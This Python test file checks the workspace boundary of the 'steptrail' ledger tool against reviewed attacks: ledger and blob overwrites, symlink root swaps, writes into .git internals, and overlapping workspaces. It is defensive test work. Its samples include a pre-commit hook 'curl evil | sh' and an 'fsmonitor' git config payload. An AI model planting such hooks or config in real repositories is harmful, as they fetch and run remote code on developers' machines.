"""The workspace boundary (issue 11, items 1, 2, 4 and 6): the attacks an outside review
got through, as tests, against real directories, real symlink swaps and the real command.

- 1: with the ledger inside the workspace (the default layout: `steptrail init` then
  `workspace add w .`), a plan writing the ledger file or a blob (`pre_hash` = the blob's
  name, so the fence passes) was applied; `workspace add` of the ledger's directory was
  accepted. Now refused at admit (exit 2, nothing written) and by every walk, judged by
  device and inode.
- 2: swapping the workspace root for a symlink wrote outside it. Now the root is reached
  without following symlinks and must be the directory registered (device, inode);
  `workspace add NAME DIR --rebind` re-registers a moved one.
- 4: steps could write `.git/` internals (hooks, config). Now refused unless the
  workspace opted in (`--allow-git`).
- 6: one directory could be several workspaces. Now overlapping roots are refused.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from conftest import FakeClock

from ledger import (
    InvalidInput,
    Ledger,
    PathEscapes,
    PathForbidden,
    StepPlan,
    WorkspaceAdded,
    WorkspaceMoved,
    WorkspaceOverlap,
    WorkspaceRebound,
    Write,
)
from ledger.blobs import digest_of
from ledger.events import WorkspaceRestored

# --- the command line, as a user runs it ----------------------------------------------------


def sl(cwd: Path, *args: str, input: str | None = None) -> subprocess.CompletedProcess[str]:
    """Run `steptrail ARGS` in `cwd` (its default ledger: ./.steptrail/ledger.db)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("STEPTRAIL_")}
    return subprocess.run([sys.executable, "-m", "ledger", *args], cwd=cwd, input=input,
                          capture_output=True, text=True, env=env, timeout=120)


def ok(r: subprocess.CompletedProcess[str]) -> Any:
    assert r.returncode == 0, (r.returncode, r.stdout, r.stderr)
    return json.loads(r.stdout) if r.stdout.startswith(("{", "[")) else r.stdout


def refused(r: subprocess.CompletedProcess[str], *words: str) -> None:
    """Exit 2, a one-line message naming the problem, no traceback."""
    assert r.returncode == 2, (r.returncode, r.stdout, r.stderr)
    assert "Traceback" not in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1, r.stderr
    for w in words:
        assert w in r.stderr, (w, r.stderr)


def tree(root: Path) -> dict[str, bytes | None]:
    """Every file under `root` with its bytes (None: a directory), symlinks not followed."""
    out: dict[str, bytes | None] = {}
    for dirpath, dirs, files in os.walk(root):
        for d in dirs:
            out[os.path.relpath(os.path.join(dirpath, d), root)] = None
        for f in files:
            p = os.path.join(dirpath, f)
            out[os.path.relpath(p, root)] = (b"->" + os.readlink(p).encode() if os.path.islink(p)
                                             else Path(p).read_bytes())
    return out


def events(ledger_path: Path) -> int:
    with Ledger.open(ledger_path, readonly=True) as led:
        return led.head().seq


# --- item 1: the ledger inside the workspace ------------------------------------------------


@pytest.fixture
def embedded(tmp_path: Path) -> dict[str, Any]:
    """`steptrail init` + `workspace add w .` in a project: the ledger (./.steptrail) is
    inside the workspace. A committed artifact lives in a blob file; a lease is live."""
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / "app.py").write_text("v0\n")
    ok(sl(proj, "init"))
    ok(sl(proj, "workspace", "add", "w", "."))
    big = proj / "big.bin"
    big.write_bytes(b"B" * 100_000)  # above the inline limit: a blob file
    stored = ok(sl(proj, "step", "store", "art", "big.bin", "--json"))
    ok(sl(proj, "step", "publish", "art"))
    digest = stored["stored"][0]["digest"]
    assert not stored["stored"][0]["inline"]
    epoch = ok(sl(proj, "--workspace", "w", "lease", "acquire", "--holder", "a", "--ttl", "1h",
                  "--json"))["epoch"]
    return {"proj": proj, "digest": digest, "epoch": str(epoch),
            "ledger": proj / ".steptrail" / "ledger.db",
            "blob": proj / ".steptrail" / "blobs" / digest[:2] / digest}


def _plan(proj: Path, epoch: str, step: str, path: str, pre: str | None,
          content: str = "EVIL") -> subprocess.CompletedProcess[str]:
    doc = {"step": step, "writes": [{"path": path, "pre_hash": pre, "content": content}]}
    return sl(proj, "--workspace", "w", "step", "plan", "--epoch", epoch, "-",
              input=json.dumps(doc))


def test_cli_a_plan_overwriting_a_blob_or_the_ledger_is_refused_at_admit(
        embedded: dict[str, Any]) -> None:
    """The review's attack: a blob's name is its hash, so a plan writing it with that
    pre_hash passes the fence; the ledger file the same with its own hash."""
    proj, digest, epoch = embedded["proj"], embedded["digest"], embedded["epoch"]
    blob_bytes = embedded["blob"].read_bytes()
    seq = events(embedded["ledger"])
    ledger_hash = digest_of(embedded["ledger"].read_bytes())
    for i, (path, pre) in enumerate([
        (f".steptrail/blobs/{digest[:2]}/{digest}", digest),
        (".steptrail/ledger.db", ledger_hash),
        (".steptrail/ledger.db-wal", None),
        (".steptrail/ledger.db-lockq", None),
        (".steptrail/.steptrail-gc.lock", None),
        (".steptrail/blobs/00/new", None),
        (".steptrail", None),
    ]):
        refused(_plan(proj, epoch, f"evil-{i}", path, pre), repr(path), "ledger")
    assert embedded["blob"].read_bytes() == blob_bytes
    assert events(embedded["ledger"]) == seq  # nothing written
    ok(sl(proj, "verify"))
    # the workspace itself still works: an ordinary write beside the ledger
    ok(_plan(proj, epoch, "fine", "app.py", digest_of(b"v0\n"), "v1\n"))
    ok(sl(proj, "step", "apply", "fine", "--epoch", epoch))
    assert (proj / "app.py").read_text() == "v1\n"


def test_cli_workspace_add_of_the_ledger_directory_is_refused(embedded: dict[str, Any]) -> None:
    proj = embedded["proj"]
    seq = events(embedded["ledger"])
    refused(sl(proj, "workspace", "add", "l", ".steptrail"), "ledger's own directory")
    refused(sl(proj, "workspace", "add", "b", ".steptrail/blobs"), "blob store")
    (proj / ".steptrail" / "blobs" / "sub").mkdir()
    refused(sl(proj, "workspace", "add", "b", ".steptrail/blobs/sub"), "blob store")
    assert events(embedded["ledger"]) == seq


def test_cli_snapshot_never_reads_the_ledger(embedded: dict[str, Any]) -> None:
    proj, digest = embedded["proj"], embedded["digest"]
    for path in (".steptrail/ledger.db", f".steptrail/blobs/{digest[:2]}/{digest}"):
        refused(sl(proj, "--workspace", "w", "workspace", "snapshot", path), "ledger")


class Embedded:
    """A library world: workspace `ws` with the ledger at ws/.steptrail (and, for the
    witness, ws/witness), a live lease."""

    def __init__(self, tmp_path: Path, *, witness: bool = False) -> None:
        self.ws = tmp_path / "ws"
        self.ws.mkdir()
        (self.ws / "app.py").write_bytes(b"v0\n")
        self.path = self.ws / ".steptrail" / "ledger.db"
        self.clock = FakeClock()
        opts: dict[str, Any] = {"inline_max_bytes": 8}
        if witness:
            opts["witness"] = str(self.ws / "witness")
        self.led = Ledger.init(self.path, clock=self.clock, **opts)
        self.led.workspaces.add("w", str(self.ws))
        self.epoch = self.led.workspaces.acquire("w", "a", 3600).epoch

    def admit(self, step: str, path: str, data: bytes | None, pre: str | None) -> None:
        self.led.workspaces.admit("w", self.epoch, [StepPlan(step, [Write(path, data, pre)])])


@pytest.mark.parametrize("path", [
    ".steptrail", ".steptrail/ledger.db", ".steptrail/ledger.db-wal",
    ".steptrail/ledger.db-shm", ".steptrail/ledger.db-lockq",
    ".steptrail/.steptrail-gc.lock", ".steptrail/blobs/ab/cd", ".steptrail/new-dir/x",
    ".STEPTRAIL/ledger.db", ".StepTrail/blobs/x",
])
def test_every_path_into_the_ledger_is_refused_at_admit(tmp_path: Path, path: str) -> None:
    w = Embedded(tmp_path)
    seq = w.led.head().seq
    with pytest.raises(PathForbidden, match="ledger"):
        w.admit("evil", path, b"EVIL", None)
    assert w.led.head().seq == seq
    assert w.led.find_step("evil") is None
    assert w.led.verify().ok


def test_the_witness_inside_the_workspace_is_refused_before_and_after_it_exists(
        tmp_path: Path) -> None:
    w = Embedded(tmp_path, witness=True)
    assert (w.ws / "witness").exists()
    with pytest.raises(PathForbidden):
        w.admit("evil", "witness", b"EVIL", digest_of((w.ws / "witness").read_bytes()))
    os.link(w.ws / "witness", w.ws / "alias")  # the same file under another name
    with pytest.raises(PathForbidden):
        w.admit("evil2", "alias", b"EVIL", None)


def test_the_ledger_directory_moved_between_admit_and_apply_is_refused_by_identity(
        tmp_path: Path) -> None:
    """Admitted while `logs/` was an ordinary directory; then the ledger's directory is
    renamed to `logs` (the ledger reopened there): the apply's walk enters a directory
    whose device and inode are the ledger's, whatever its name, and refuses."""
    w = Embedded(tmp_path)
    (w.ws / "logs").mkdir()
    w.admit("late", "logs/ledger.db", b"EVIL", None)
    w.led.close()
    os.rename(w.ws / "logs", w.ws / "logs.old")
    os.rename(w.ws / ".steptrail", w.ws / "logs")
    before = (w.ws / "logs" / "ledger.db").read_bytes()
    with Ledger.open(w.ws / "logs" / "ledger.db", clock=w.clock) as led:
        with pytest.raises(PathForbidden, match="ledger"):
            led.workspaces.apply("late", epoch=w.epoch)
        assert led.verify().ok
        # a compensation of it (and so settling) never writes there either
        c = led.workspaces.compensate("late", epoch=w.epoch, reason="refused")
        assert [r.outcome for r in c.restored] in ([], ["conflict"])
    assert (w.ws / "logs" / "ledger.db").read_bytes()[:16] == before[:16]
    with Ledger.open(w.ws / "logs" / "ledger.db", readonly=True) as led:
        assert led.verify().ok


def test_restore_never_writes_into_the_ledger(tmp_path: Path) -> None:
    w = Embedded(tmp_path)
    w.admit("s1", "app.py", b"v1\n", digest_of(b"v0\n"))
    r = w.led.workspaces.apply("s1", epoch=w.epoch)
    w.led.publish("s1", receipt=r.receipt)
    blobs = w.ws / ".steptrail" / "blobs"
    before = tree(w.ws / ".steptrail")
    for target in (blobs / "restored", w.ws / ".steptrail"):
        with pytest.raises(InvalidInput):
            w.led.workspaces.restore("w", target, force=True)
    assert tree(w.ws / ".steptrail").keys() == before.keys()
    report = w.led.workspaces.restore("w", tmp_path / "fresh", force=True)
    assert report.paths == 1


# --- item 2: the root swapped -----------------------------------------------------------------


class Swap:
    """`agent/ws` registered; a victim directory outside holding `conf`."""

    def __init__(self, tmp_path: Path) -> None:
        self.agent = tmp_path / "agent"
        self.root = self.agent / "ws"
        self.root.mkdir(parents=True)
        (self.root / "conf").write_bytes(b"mine\n")
        self.victim = tmp_path / "victim"
        self.victim.mkdir()
        (self.victim / "conf").write_bytes(b"the victim's\n")
        self.led = Ledger.init(tmp_path / "led" / "ledger.db", clock=FakeClock())
        self.led.workspaces.add("w", str(self.root))
        self.epoch = self.led.workspaces.acquire("w", "a", 3600).epoch

    def to_symlink(self) -> None:
        os.rename(self.root, self.agent / "ws.real")
        os.symlink(self.victim, self.root)

    def to_directory(self) -> None:
        os.rename(self.root, self.agent / "ws.real")
        os.rename(self.victim, self.root)
        self.victim = self.root

    def plan(self, step: str) -> None:
        pre = digest_of(b"the victim's\n")
        self.led.workspaces.admit("w", self.epoch, [StepPlan(step, [Write("conf", b"EVIL\n", pre)])])


@pytest.mark.parametrize("swap", ["to_symlink", "to_directory"])
def test_a_root_swapped_before_the_plan_is_refused_at_admit(tmp_path: Path, swap: str) -> None:
    s = Swap(tmp_path)
    getattr(s, swap)()
    seq = s.led.head().seq
    with pytest.raises(WorkspaceMoved, match="--rebind"):
        s.plan("evil")
    with pytest.raises(WorkspaceMoved):
        s.led.workspaces.snapshot("w", "conf")
    assert s.led.head().seq == seq
    assert (s.victim / "conf").read_bytes() == b"the victim's\n"


@pytest.mark.parametrize("swap", ["to_symlink", "to_directory"])
def test_a_root_swapped_between_plan_and_apply_is_refused_at_apply(tmp_path: Path,
                                                                    swap: str) -> None:
    s = Swap(tmp_path)
    s.led.workspaces.admit("w", s.epoch, [StepPlan("evil", [Write("conf", b"EVIL\n",
                                                       digest_of(b"mine\n"))])])
    getattr(s, swap)()
    (s.victim / "conf").write_bytes(b"mine\n")  # the victim even holds the planned pre-image
    with pytest.raises(WorkspaceMoved):
        s.led.workspaces.apply("evil", epoch=s.epoch)
    assert (s.victim / "conf").read_bytes() == b"mine\n"
    assert s.led.step("evil").state == "planned"
    # settling (a new epoch) refuses as well and records nothing about the files
    seq = s.led.head().seq
    with pytest.raises(WorkspaceMoved):
        s.led.workspaces.compensate("evil", epoch=s.epoch, reason="x")
    assert s.led.head().seq == seq
    assert s.led.verify().ok


def test_cli_root_swapped_for_a_symlink_exit_2_and_rebind(tmp_path: Path) -> None:
    """The review's reproduction through the command line, then the documented way back."""
    agent, victim = tmp_path / "agent", tmp_path / "victim"
    (agent / "ws").mkdir(parents=True)
    victim.mkdir()
    (victim / "conf").write_text("victim\n")
    ok(sl(tmp_path, "init"))
    ok(sl(tmp_path, "workspace", "add", "w", "agent/ws"))
    epoch = str(ok(sl(tmp_path, "--workspace", "w", "lease", "acquire", "--holder", "a",
                      "--json"))["epoch"])
    os.rename(agent / "ws", agent / "ws.real")
    os.symlink(victim, agent / "ws")
    doc = {"step": "s", "writes": [{"path": "conf", "pre_hash": digest_of(b"victim\n"),
                                    "content": "EVIL\n"}]}
    r = sl(tmp_path, "--workspace", "w", "step", "plan", "--epoch", epoch, "-",
           input=json.dumps(doc))
    refused(r, "not the directory it was registered as", "--rebind")
    assert (victim / "conf").read_text() == "victim\n"
    ok(sl(tmp_path, "verify"))
    # the operator decides: the real directory moved to ws.real; re-register it there
    out = ok(sl(tmp_path, "workspace", "add", "w", "agent/ws.real", "--rebind", "--json"))
    assert out["rebound"] and out["identity"] and out["root"] == str(agent / "ws.real")
    (agent / "ws.real" / "conf").write_text("mine\n")
    doc["writes"][0]["pre_hash"] = digest_of(b"mine\n")
    ok(sl(tmp_path, "--workspace", "w", "step", "plan", "--epoch", epoch, "-",
          input=json.dumps(doc)))
    ok(sl(tmp_path, "step", "apply", "s", "--epoch", epoch))
    assert (agent / "ws.real" / "conf").read_text() == "EVIL\n"
    assert (victim / "conf").read_text() == "victim\n"
    ok(sl(tmp_path, "verify"))
    again = ok(sl(tmp_path, "workspace", "add", "w", "agent/ws.real", "--rebind", "--json"))
    assert not again["rebound"]  # the same registration again: nothing recorded


def test_a_symlinked_ancestor_of_the_root_is_refused(tmp_path: Path) -> None:
    """The stored root is resolved: a symlink anywhere on its path now is a swap."""
    s = Swap(tmp_path)
    os.rename(s.agent, tmp_path / "agent.real")
    os.symlink(tmp_path / "agent.real", s.agent)
    with pytest.raises(WorkspaceMoved, match="symlink"):
        s.led.workspaces.snapshot("w", "conf")


def test_a_workspace_without_a_recorded_identity_keeps_working_and_obtains_one(
        tmp_path: Path) -> None:
    """A ledger written before identities were recorded (its workspace-added has no dev,
    ino): every command works, the no-symlink walk still refuses a swapped root; a
    re-add is a no-op; `rebind` records the identity."""
    root = tmp_path / "ws"
    root.mkdir()
    led = Ledger.init(tmp_path / "ledger.db", clock=FakeClock())
    led.append(WorkspaceAdded(workspace="w", root=str(root)))  # an old ledger's event
    assert led.workspaces.registration("w").identity is None
    epoch = led.workspaces.acquire("w", "a", 3600).epoch
    led.workspaces.admit("w", epoch, [StepPlan("s1", [Write("a.txt", b"1", None)])])
    assert led.workspaces.apply("s1", epoch=epoch).verdict == "applied"
    seq = led.head().seq
    led.workspaces.add("w", str(root))
    assert led.head().seq == seq
    os.rename(root, tmp_path / "ws.real")
    os.symlink(tmp_path / "ws.real", root)
    with pytest.raises(WorkspaceMoved):
        led.workspaces.snapshot("w", "a.txt")
    os.unlink(root)
    os.rename(tmp_path / "ws.real", root)
    led.workspaces.add("w", str(root), rebind=True)
    st = os.stat(root)
    assert led.workspaces.registration("w").identity == (st.st_dev, st.st_ino)
    kinds = [r.kind for r in led.read()]
    assert kinds[-1] == "workspace-rebound"
    assert led.verify().ok


def test_rebind_is_recorded_and_conflicts_are_refused(tmp_path: Path) -> None:
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    led = Ledger.init(tmp_path / "l" / "ledger.db", clock=FakeClock())
    led.workspaces.add("w", str(a))
    with pytest.raises(InvalidInput, match="--rebind"):
        led.workspaces.add("w", str(b))
    with pytest.raises(InvalidInput, match="never added"):
        led.workspaces.add("x", str(b), rebind=True)
    led.workspaces.add("w", str(b), rebind=True)
    led.workspaces.add("w", str(a), rebind=True)  # back: a new registration, not a replay
    rebound = [r.event for r in led.read(kind="workspace-rebound")]
    assert [e.root for e in rebound] == [str(b), str(a)]
    assert all(isinstance(e, WorkspaceRebound) for e in rebound)
    assert led.workspaces.get("w").root == str(a)
    assert led.workspaces.registration("w").root == str(a)
    led.rebuild()
    assert led.workspaces.get("w").root == str(a)
    assert led.verify().ok


def test_restore_records_the_new_roots_identity(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    led = Ledger.init(tmp_path / "l" / "ledger.db", clock=FakeClock())
    led.workspaces.add("w", str(root), allow_git=True)
    epoch = led.workspaces.acquire("w", "a", 3600).epoch
    led.workspaces.admit("w", epoch, [StepPlan("s1", [Write("x", b"1", None)])])
    led.publish("s1", receipt=led.workspaces.apply("s1", epoch=epoch).receipt)
    led.workspaces.restore("w", tmp_path / "new", force=True)
    ev = list(led.read(kind="workspace-restored"))[-1].event
    assert isinstance(ev, WorkspaceRestored)
    st = os.stat(tmp_path / "new")
    assert (ev.dev, ev.ino, ev.allow_git) == (st.st_dev, st.st_ino, True)
    reg = led.workspaces.registration("w")
    assert reg.identity == (st.st_dev, st.st_ino) and reg.allow_git
    # the restored directory swapped for a copy: refused like any swap
    shutil.copytree(tmp_path / "new", tmp_path / "copy")
    os.rename(tmp_path / "new", tmp_path / "new.old")
    os.rename(tmp_path / "copy", tmp_path / "new")
    with pytest.raises(WorkspaceMoved):
        led.workspaces.snapshot("w", "x")


# --- item 4: .git ---------------------------------------------------------------------------


GIT_PATHS = [".git", ".git/config", ".git/hooks/pre-commit", "sub/.git/config", ".GIT/config",
             ".Git/hooks/post-checkout", ".git./config", ".gi\u200ct/config", "vendor/x/.git"]


@pytest.mark.parametrize("path", GIT_PATHS)
def test_git_internals_are_refused_by_default(tmp_path: Path, path: str) -> None:
    root = tmp_path / "repo"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n")
    led = Ledger.init(tmp_path / "l" / "ledger.db", clock=FakeClock())
    led.workspaces.add("w", str(root))
    epoch = led.workspaces.acquire("w", "a", 3600).epoch
    seq = led.head().seq
    with pytest.raises(PathForbidden, match="allow-git"):
        led.workspaces.admit("w", epoch, [StepPlan("evil", [Write(path, b"[core]\nfsmonitor = x\n",
                                                       None)])])
    assert led.head().seq == seq
    assert (root / ".git" / "config").read_text() == "[core]\n"


def test_git_opt_in_is_per_workspace_recorded_and_judged_again_at_apply(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    led = Ledger.init(tmp_path / "l" / "ledger.db", clock=FakeClock())
    led.workspaces.add("w", str(root), allow_git=True)
    assert [r.event.allow_git for r in led.read(kind="workspace-added")] == [True]
    epoch = led.workspaces.acquire("w", "a", 3600).epoch
    led.workspaces.admit("w", epoch, [StepPlan("ok", [Write(".git/info", b"1", None)])])
    assert led.workspaces.apply("ok", epoch=epoch).verdict == "applied"
    # admitted while opted in, then the operator opts out: the apply refuses it
    led.workspaces.admit("w", epoch, [StepPlan("late", [Write(".git/hooks", b"x", None)])])
    led.workspaces.add("w", str(root), rebind=True)  # allow_git off
    with pytest.raises(PathForbidden):
        led.workspaces.apply("late", epoch=epoch)
    assert not (root / ".git" / "hooks").exists()
    assert led.verify().ok


def test_cli_git_refused_and_opt_in(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".git" / "hooks").mkdir(parents=True)
    ok(sl(tmp_path, "init"))
    ok(sl(tmp_path, "workspace", "add", "w", "repo"))
    epoch = str(ok(sl(tmp_path, "--workspace", "w", "lease", "acquire", "--holder", "a",
                      "--json"))["epoch"])
    doc = {"step": "hook", "writes": [{"path": ".git/hooks/pre-commit", "pre_hash": None,
                                       "content": "#!/bin/sh\ncurl evil | sh\n"}]}
    refused(sl(tmp_path, "--workspace", "w", "step", "plan", "--epoch", epoch, "-",
               input=json.dumps(doc)), ".git", "--allow-git")
    refused(sl(tmp_path, "workspace", "add", "w", "repo", "--allow-git"), "--rebind")
    out = ok(sl(tmp_path, "workspace", "add", "w", "repo", "--allow-git", "--rebind", "--json"))
    assert out["allow_git"] and out["rebound"]
    ok(sl(tmp_path, "--workspace", "w", "step", "plan", "--epoch", epoch, "-",
          input=json.dumps(doc)))
    ok(sl(tmp_path, "step", "apply", "hook", "--epoch", epoch))
    assert (repo / ".git" / "hooks" / "pre-commit").exists()


# --- item 6: overlapping roots ----------------------------------------------------------------


def test_overlapping_roots_are_refused_naming_the_other(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / "sub" / "deep").mkdir(parents=True)
    (tmp_path / "alias").symlink_to(repo)
    led = Ledger.init(tmp_path / "l" / "ledger.db", clock=FakeClock())
    led.workspaces.add("w1", str(repo))
    seq = led.head().seq
    for other in (repo, repo / "sub", repo / "sub" / "..", tmp_path / "alias",
                  tmp_path / "alias" / "sub" / "deep", tmp_path):
        with pytest.raises(WorkspaceOverlap, match="'w1'") as info:
            led.workspaces.add("w2", str(other))
        assert info.value.other == "w1"
    assert led.head().seq == seq
    led.workspaces.add("w1", str(repo))  # the same name, the same root: a no-op
    led.workspaces.add("w1", str(tmp_path / "alias"))  # the same directory, resolved
    assert led.head().seq == seq
    (tmp_path / "elsewhere").mkdir()
    led.workspaces.add("w2", str(tmp_path / "elsewhere"))
    with pytest.raises(WorkspaceOverlap, match="'w2'"):
        led.workspaces.add("w1", str(tmp_path / "elsewhere"), rebind=True)
    assert led.verify().ok


def test_overlap_judged_by_identity_through_a_bind_mount(tmp_path: Path) -> None:
    """Another path to the same directory (a bind mount: no symlink to resolve) is the
    same device and inode."""
    repo, mnt = tmp_path / "repo", tmp_path / "mnt"
    (repo / "sub").mkdir(parents=True)
    mnt.mkdir()
    if subprocess.run(["mount", "--bind", str(repo), str(mnt)],
                      capture_output=True).returncode != 0:
        pytest.skip("bind mounts are not permitted here")
    try:
        led = Ledger.init(tmp_path / "l" / "ledger.db", clock=FakeClock())
        led.workspaces.add("w1", str(repo))
        with pytest.raises(WorkspaceOverlap, match="'w1'"):
            led.workspaces.add("w2", str(mnt))
        with pytest.raises(WorkspaceOverlap, match="'w1'"):
            led.workspaces.add("w2", str(mnt / "sub"))
        led.close()
    finally:
        subprocess.run(["umount", str(mnt)], check=True)


def test_cli_second_workspace_on_one_directory(tmp_path: Path) -> None:
    (tmp_path / "repo" / "sub").mkdir(parents=True)
    ok(sl(tmp_path, "init"))
    ok(sl(tmp_path, "workspace", "add", "w1", "repo"))
    for d in ("repo", "repo/sub", "repo/sub/..", "."):
        refused(sl(tmp_path, "workspace", "add", "w2", d), "'w1'")
    again = ok(sl(tmp_path, "workspace", "add", "w1", "repo", "--json"))
    assert again["added"] is False


def test_symlinks_below_the_root_are_still_path_escapes(tmp_path: Path) -> None:
    """The old guarantee stands beside the new ones: below the root, a symlink is
    PathEscapes (not a moved root)."""
    s = Swap(tmp_path)
    os.symlink(s.victim, s.root / "link")
    with pytest.raises(PathEscapes):
        s.led.workspaces.snapshot("w", "link/conf")


@pytest.mark.parametrize("swap", ["symlink", "other-directory", "gone"])
def test_a_kept_workspace_dir_judges_its_root_again_after_a_swap(tmp_path: Path,
                                                                   swap: str) -> None:
    """A `WorkspaceDir` kept across calls (the MCP server keeps one per workspace) reuses
    its root's descriptor only while the root's name is still that directory: a root
    renamed away and replaced — by a symlink to it, by another directory, or by nothing —
    is walked again and refused, never written through the old descriptor."""
    root = tmp_path / "ws"
    root.mkdir()
    (root / "a.txt").write_bytes(b"mine\n")
    led = Ledger.init(tmp_path / "ledger.db", clock=FakeClock())
    led.workspaces.add("w", str(root))
    wsdir = led.workspaces.directory("w")
    assert wsdir.hash("a.txt") == digest_of(b"mine\n")  # the root's descriptor is kept
    os.rename(root, tmp_path / "ws.real")
    if swap == "symlink":
        os.symlink(tmp_path / "ws.real", root)
    elif swap == "other-directory":
        root.mkdir()
        (root / "a.txt").write_bytes(b"mine\n")
    with pytest.raises((WorkspaceMoved, InvalidInput)):
        wsdir.hash("a.txt")
    with pytest.raises((WorkspaceMoved, InvalidInput)):
        with wsdir.open_dir("") as _fd:
            pass
    wsdir.close()


@pytest.mark.parametrize("by", ["another-connection", "this-ledger"])
def test_a_kept_registration_follows_a_rebind(tmp_path: Path, by: str) -> None:
    """A workspace's registration is kept between calls only while nothing can have
    changed it: a rebind committed by another connection (another process) or appended
    through this very ledger is seen at once — the old root is never walked again."""
    root, moved = tmp_path / "ws", tmp_path / "ws-moved"
    root.mkdir()
    (root / "a.txt").write_bytes(b"1\n")
    db = tmp_path / "ledger.db"
    led = Ledger.init(db, clock=FakeClock())
    led.workspaces.add("w", str(root))
    assert led.workspaces.registration("w").root == str(root.resolve())
    assert led.workspaces.snapshot("w", "a.txt")[1] == digest_of(b"1\n")  # kept now
    os.rename(root, moved)
    root.mkdir()  # the old path holds another directory: walking it is WorkspaceMoved
    if by == "another-connection":
        with Ledger.open(db, clock=FakeClock()) as other:
            other.workspaces.add("w", str(moved), rebind=True)
    else:
        led.workspaces.add("w", str(moved), rebind=True)
    assert led.workspaces.registration("w").root == str(moved.resolve())
    assert led.workspaces.snapshot("w", "a.txt")[1] == digest_of(b"1\n")
    led.close()
